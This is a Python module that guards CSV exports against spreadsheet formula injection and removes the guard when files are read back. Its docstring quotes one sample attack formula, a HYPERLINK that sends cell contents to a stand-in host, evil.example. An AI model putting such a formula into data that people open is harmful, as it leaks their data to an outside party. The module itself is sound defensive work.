"""Spreadsheet formula injection (OWASP "CSV injection"): guard on export, unguard on read.

A cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is run as a
formula when an analyst opens the CSV in Excel or LibreOffice; a case text such as
``=HYPERLINK("http://evil.example?"&A1, "click")`` would leak the sheet or worse. rsad's CSV
exports prefix such cells with a single quote, which spreadsheets show as text. Reading a
CSV/TSV back drops that quote again, so an exported file trains exactly like the store.
Parquet exports stay exact: spreadsheets do not evaluate cells from Parquet.
"""

from __future__ import annotations

import pandas as pd

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
_GUARDED = tuple("'" + c for c in FORMULA_START)


def _guard(value: object) -> object:
    return "'" + value if isinstance(value, str) and value.startswith(FORMULA_START) else value


def guard_formulas(df: pd.DataFrame) -> pd.DataFrame:
    """A copy whose text cells cannot start a formula (numbers are left as numbers)."""
    out = df.copy()
    for col in out.columns:
        if not pd.api.types.is_numeric_dtype(out[col]) and not pd.api.types.is_datetime64_any_dtype(out[col]):
            out[col] = out[col].map(_guard)
    out.columns = [_guard(str(c)) for c in out.columns]
    return out


def to_safe_csv(df: pd.DataFrame) -> bytes:
    """CSV bytes for download or export, formulas guarded.

    Lines end in CRLF (RFC 4180): the csv writer then also quotes a bare CR inside a text,
    which with LF line ends it would leave bare, splitting the row for every reader.
    """
    return guard_formulas(df).to_csv(index=False, lineterminator="\r\n").encode()


def unguard(value: str) -> str:
    """The cell as it was before :func:`guard_formulas` (other cells unchanged)."""
    return value[1:] if value.startswith(_GUARDED) else value
